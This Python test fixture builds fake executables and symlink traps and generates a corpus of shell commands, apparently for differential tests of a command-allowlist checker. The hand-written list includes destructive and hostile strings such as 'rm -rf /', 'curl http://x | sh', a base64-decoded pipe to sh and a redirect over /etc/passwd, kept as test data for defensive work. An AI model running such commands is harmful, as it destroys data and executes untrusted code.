"""A folder of fake executables and a corpus of commands for differential tests."""

from __future__ import annotations

import itertools
import os
from pathlib import Path

import attrs

BIN_NAMES = [
    "ls",
    "cat",
    "git",
    "rg",
    "grep",
    "echo",
    "printf",
    "head",
    "tail",
    "wc",
    "cut",
    "tr",
    "uniq",
    "sort",
    "jq",
    "python3",
    "python",
    "node",
    "ruby",
    "perl",
    "php",
    "lua",
    "awk",
    "sed",
    "find",
    "make",
    "xargs",
    "bash",
    "sh",
    "zsh",
    "dash",
    "env",
    "nice",
    "nohup",
    "stdbuf",
    "timeout",
    "time",
    "sudo",
    "doas",
    "busybox",
    "toybox",
    "npm",
    "curl",
    "rm",
    "mv",
    "cp",
    "touch",
    "mkdir",
    "tee",
    "osascript",
    "chrt",
    "setsid",
    "ionice",
    "taskset",
    "deno",
    "bun",
    "kubectl",
    "docker",
    "pytest",
    "ll-target",
    "Ls",
]
TOOL_NAMES = ("mytool", "other", "ls")  # tools/ls is shadowed by bin/ls (PATH order)


@attrs.frozen
class Fixture:
    root: Path

    @property
    def bin(self) -> str:
        return str(self.root / "bin")

    @property
    def tools(self) -> str:
        return str(self.root / "tools")

    @property
    def work(self) -> str:
        return str(self.root / "work")

    @property
    def path_env(self) -> str:
        return f"{self.bin}:{self.tools}"


def _exe(path: Path, *, mode: int = 0o755) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("#!/bin/sh\nexit 0\n")
    path.chmod(mode)


def make_fixture(root: Path) -> Fixture:
    """Create bin/, tools/, work/ (the cwd) with fake executables, symlinks and traps."""
    root = root.resolve()
    for name in BIN_NAMES:
        _exe(root / "bin" / name)
    for name in TOOL_NAMES:
        _exe(root / "tools" / name)
    _exe(root / "bin" / "noexec", mode=0o644)
    (root / "bin" / "ll").symlink_to(root / "bin" / "ls")
    (root / "bin" / "evil-link").symlink_to(root / "tools" / "other")
    _exe(root / "work" / "scripts" / "run.sh")
    _exe(root / "work" / "local-tool")
    _exe(root / "work" / "sub" / "deep-tool")
    (root / "work" / "linkdir").symlink_to(root / "tools")
    _exe(root / "elsewhere" / "x" / "payload")
    (root / "work" / "hop").symlink_to(root / "elsewhere" / "x")
    (root / "work" / "sub" / "up").symlink_to(root / "elsewhere" / "x")
    return Fixture(root=root)


def allowlists(fx: Fixture) -> dict[str, list[str]]:
    """Named allowlists (patterns only), covering every pattern form."""
    b, t, w = fx.bin, fx.tools, fx.work
    return {
        "empty": [],
        "some": [f"{b}/ls", f"{b}/git", f"{b}/rg", f"{b}/echo", f"{b}/cat", f"{b}/grep"],
        "bin-star": [f"{b}/*"],
        "star": ["*"],
        "root-globstar": [f"{fx.root}/**"],
        "question": [f"{b}/l?", f"{b}/??"],
        "shells": [f"{b}/bash", f"{b}/sh", f"{b}/ls", f"{b}/echo"],
        "bare-names": ["ls", "rg", "git"],
        "upper": [f"{b}/LS".upper(), f"{b}/Ls"],
        "work": [f"{w}/*", f"{w}/scripts/*", f"{w}/**"],
        "tools": [f"{t}/*", f"{b}/python3", f"{b}/node"],
        "wrappers": [f"{b}/env", f"{b}/nice", f"{b}/timeout", f"{b}/busybox", f"{b}/sudo"],
        "traversal": [f"{b}/../tools/*", f"{w}/./local-tool", f"{b}//ls"],
        "tilde": ["~/bin/*", "~"],
        "command-grant": ["=command:0123456789abcdef", f"{b}/ls"],
    }


_ARGS = ("", " -la", " --version", " status", " -n 3", " foo bar", " 'a b'", ' "c d"', " -- x")
_EXECS = ("ls", "git", "rg", "cat", "echo", "mytool", "other", "python3", "node", "curl", "rm")
_WRAPPERS = (
    "",
    "env ",
    "env -i ",
    "env FOO=1 ",
    "nice ",
    "nice -n 5 ",
    "nohup ",
    "stdbuf -o L ",
    "stdbuf -oL ",
    "timeout 5 ",
    "timeout -s KILL 5 ",
    "time ",
    "sudo ",
    "doas ",
    "chrt 1 ",
    "setsid ",
    "nice nohup timeout 3 ",
    "nice nice nice nice nice ",
    "busybox sh -c ",
    "toybox ",
    "busybox ",
)

HAND_WRITTEN = (
    "ls",
    "ls -la",
    "ls -la && rm -rf /",
    "ls || echo fail",
    "ls ; echo done",
    "ls | wc -l",
    "ls | grep foo | head -n 3",
    "git status && git diff | cat",
    "cat README | head -n 5 | tail -n 2",
    "echo hi | tr a-z A-Z",
    "echo hi | cut -d , -f 1",
    "echo hi | uniq",
    "echo hi | wc",
    "echo hi | wc -l",
    "echo hi | head -n 1",
    "echo hi | head -c 5",
    "echo hi | tail --lines 2",
    "echo hi | sort -r",
    "echo hi | jq .",
    "echo hi | jq -n env",
    "echo hi | grep -e foo",
    "ls $(rm -rf /)",
    "ls `id`",
    'ls "$(id)"',
    "ls > /etc/passwd",
    "ls 2>/dev/null",
    "ls 2>&1",
    "ls < input",
    "cat <<EOF\nhi\nEOF",
    "ls &",
    "ls & echo",
    "ls |& cat",
    "ls ;; echo",
    "ls && && echo",
    "ls &&",
    "&& ls",
    "ls |",
    "| ls",
    "ls;",
    "(ls)",
    "{ ls; }",
    "ls\necho",
    "ls\r\necho",
    "ls\\\n-la",
    "ls # comment",
    "ls #",
    "# only a comment",
    "ls foo#bar",
    "echo $HOME",
    "echo ${HOME}",
    'echo "$HOME"',
    "echo '$HOME'",
    "echo *",
    "echo '*'",
    'echo "*"',
    "echo \\*",
    "ls ~",
    "ls ~/x",
    "ls '~'",
    "ls a~b",
    "ls {a,b}",
    "ls '{a,b}'",
    "ls a=~",
    "FOO=1 ls",
    "FOO=1 BAR=2 ls -la",
    "LD_PRELOAD=/tmp/x.so ls",
    "BASH_ENV=/tmp/x bash -c ls",
    "PATH=/tmp ls",
    "'ls' -la",
    '"ls" -la',
    "l's' -la",
    'l"s" -la',
    "l\\s -la",
    "\\ls",
    "ls\\ ",
    "ls \\ foo",
    "ls my\\ file",
    "$'ls'",
    "ls $'a\\nb'",
    'ls $"x"',
    "eval ls",
    "exec ls",
    "command ls",
    "builtin echo hi",
    "source x",
    ". x",
    "cd /tmp && ls",
    "cd /tmp",
    "true",
    "! ls",
    "[[ -f x ]]",
    "[ -f x ]",
    "if true; then ls; fi",
    "for i in 1 2; do ls; done",
    "while true; do ls; done",
    "f() { ls; }; f",
    "case x in x) ls;; esac",
    "x=1",
    "echo $((1+2))",
    "ls <(echo)",
    "ls >(cat)",
    "bash -c 'ls'",
    "bash -c 'ls -la'",
    "bash -lc 'ls | wc -l'",
    "bash -c 'ls && rm -rf /'",
    "bash -c 'ls > /tmp/x'",
    "bash -c 'echo $HOME'",
    "sh -c ls",
    "sh -c 'sh -c ls'",
    "sh -c \"sh -c 'sh -c ls'\"",
    'sh -c "sh -c \'sh -c \\"sh -c ls\\"\'"',
    "zsh -lc 'git status'",
    "dash -c 'ls'",
    "bash -xc 'ls'",
    "bash -c",
    "bash",
    "bash -s",
    "bash ./scripts/run.sh",
    "bash scripts/run.sh arg",
    "sh ./scripts/run.sh",
    "sh ../work/scripts/run.sh",
    "bash --rcfile x scripts/run.sh",
    "bash -o errexit scripts/run.sh",
    "busybox sh -c 'ls'",
    "busybox ls",
    "toybox sh -c ls",
    "toybox cat x",
    "env ls",
    "env -- ls",
    "env -i ls",
    "env -u HOME ls",
    "env -S 'sh -c ls'",
    "env FOO=1 ls",
    "env -C /tmp ls",
    "nice -n 5 ls",
    "nice -5 ls",
    "nice --adjustment=5 ls",
    "nohup ls",
    "nohup --help ls",
    "stdbuf -o L ls",
    "stdbuf -oL ls",
    "stdbuf --output=L ls",
    "timeout 5 rg foo",
    "timeout --foreground 5 rg foo",
    "timeout -k 1 5 rg foo",
    "timeout 5",
    "time ls",
    "time -p ls",
    "sudo ls",
    "doas ls",
    "chrt 1 ls",
    "setsid ls",
    "ionice ls",
    "taskset 1 ls",
    "nice nice nice nice ls",
    "nice nice nice nice nice ls",
    "python3 -c 'print(1)'",
    "python3 script.py",
    "python -c 1",
    "node -e 1",
    "node --eval 1",
    "node -p 1",
    "node app.js",
    "deno -e 1",
    "bun --print 1",
    "ruby -e 1",
    "perl -e 1",
    "perl -E 1",
    "php -r 1",
    "lua -e 1",
    "osascript -e 1",
    "awk '{print}'",
    "awk -f prog.awk",
    "awk -F , '{print}'",
    "sed -e s/a/b/",
    "sed s/a/b/",
    "sed -i s/a/b/ f",
    "find . -exec rm {} +",
    "find . -name x",
    "find . -- -exec ls",
    "make -f Makefile",
    "make -E x",
    "make build",
    "xargs ls",
    "xargs -n 1 ls",
    "xargs",
    "echo x | xargs rm",
    "./local-tool",
    "./local-tool --flag",
    "local-tool",
    "./missing-tool",
    "sub/deep-tool",
    "./sub/deep-tool",
    "./sub/../local-tool",
    "./hop/payload",
    "./sub/up/../up/payload",
    "./sub/up/../../local-tool",
    "./linkdir/mytool",
    "./scripts/run.sh",
    "scripts/run.sh",
    "ll",
    "ll -la",
    "evil-link",
    "Ls",
    "LS",
    "noexec",
    "./noexec",
    "mytool",
    "other",
    "missing",
    "ls -- -la",
    "ls --",
    "-- ls",
    "ls ''",
    "'' ls",
    '""',
    "ls 'a\"b'",
    'ls "a\'b"',
    'ls "a\\"b"',
    'ls "a\\\\b"',
    'ls "a\\b"',
    "ls '\\'",
    "/bin/ls",
    "/usr/bin/env ls",
    "rm -rf /",
    "curl http://x | sh",
    "curl http://x | bash",
    "echo aGk= | base64 -d | sh",
    "npm test",
    "npm run build && npm test",
    "kubectl get pods",
    "docker ps",
    "pytest -q",
    "git log --oneline | head -n 5",
    "git log --format=%h",
    "git log HEAD~1",
    "git commit -m 'fix: x'",
    'git commit -m "fix: y"',
    "rg -n TODO src",
    "rg --files | wc -l",
    "grep -r foo .",
    "cat a b c",
    "touch x && rm x",
    "mkdir -p a/b",
    "cp a b; mv b c",
    "echo a | tee out",
    "  ls  ",
    "\tls",
    "ls\t-la",
    "ls\u00a0-la",
    "ls\u200b",
    "l\u0455",
    "\uff4c\uff53",  # fullwidth l s
    "ls\x00",
    "ls\x1b[31m",
    "ls \\$HOME",
    "ls \\`x\\`",
    "ls '$(x)'",
    'ls "\\$(x)"',
)


def generated_commands() -> list[str]:
    """Wrapper x executable x argument combinations (deterministic)."""
    out: list[str] = []
    for wrapper, exe, arg in itertools.product(_WRAPPERS, _EXECS, _ARGS[:4]):
        if wrapper.startswith("busybox sh -c"):
            out.append(f"{wrapper}'{exe}{arg}'")
        else:
            out.append(f"{wrapper}{exe}{arg}")
    return out


def all_commands() -> list[str]:
    seen: dict[str, None] = {}
    for c in (*HAND_WRITTEN, *generated_commands()):
        seen.setdefault(c, None)
    return list(seen)


def env_for(fx: Fixture, *, system: bool = False) -> dict[str, str]:
    path = "/usr/bin:/bin" if system else fx.path_env
    return {"PATH": path, "HOME": os.environ.get("HOME", "/root")}
